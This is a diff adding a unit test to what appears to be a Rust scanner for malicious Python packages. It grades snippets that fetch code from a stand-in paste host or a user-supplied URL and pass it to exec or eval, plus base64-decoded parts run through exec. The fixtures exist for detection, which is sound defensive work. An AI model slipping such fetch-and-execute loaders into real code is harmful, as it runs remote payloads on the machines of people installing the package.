@@ -602,6 +602,19 @@ mod tests {
     }
 
     #[test]
+    fn code_fetched_from_a_fixed_address_is_a_second_stage_in_any_context() {
+        let fixed = "import requests\ndef update():\n    exec(requests.get('https://rentry.example/raw').text)\n";
+        assert!(max_severity("p/pkg/m.py", fixed, "WH110") >= 0.9);
+        // A tool evaluating parts of what it downloads from an address it builds: a risk.
+        let built = "import requests\ndef default(url):\n    text = requests.get(url).text\n    return eval(text)\n";
+        let severity = max_severity("p/pkg/m.py", built, "WH110");
+        assert!((0.4..0.7).contains(&severity), "{severity}");
+        // While loading, the address does not matter.
+        let loading = "import requests\nURL = input()\nexec(requests.get(URL).text)\n";
+        assert!(max_severity("p/pkg/__init__.py", loading, "WH110") >= 0.9);
+    }
+
+    #[test]
     fn decoded_parts_collected_in_a_list_still_count() {
         let code = "import base64\ndef run(blobs):\n    parts = []\n    for b in blobs:\n        parts.append(base64.b64decode(b))\n    for p in parts:\n        exec(p)\n";
         assert!(max_severity("p/pkg/mod.py", code, "WH110") >= 0.5);
